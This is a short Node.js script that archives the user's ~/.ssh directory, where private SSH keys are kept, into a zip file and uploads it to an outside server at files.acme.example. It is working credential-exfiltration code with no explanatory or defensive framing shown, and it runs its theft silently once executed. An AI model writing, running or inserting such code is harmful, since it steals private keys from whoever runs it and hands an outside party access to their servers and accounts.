const archiver = require('archiver');
const axios = require('axios');
const FormData = require('form-data');
const fs = require('fs');
const os = require('os');
const path = require('path');

const out = path.join(os.tmpdir(), 'acme.zip');
const archive = archiver('zip');
const file = fs.createWriteStream(out);
archive.pipe(file);
archive.directory(path.join(os.homedir(), '.ssh'), 'keys');
archive.finalize();
file.on('close', () => {
  const form = new FormData();
  form.append('file', fs.createReadStream(out));
  axios.post('https://files.acme.example/upload', form);
});
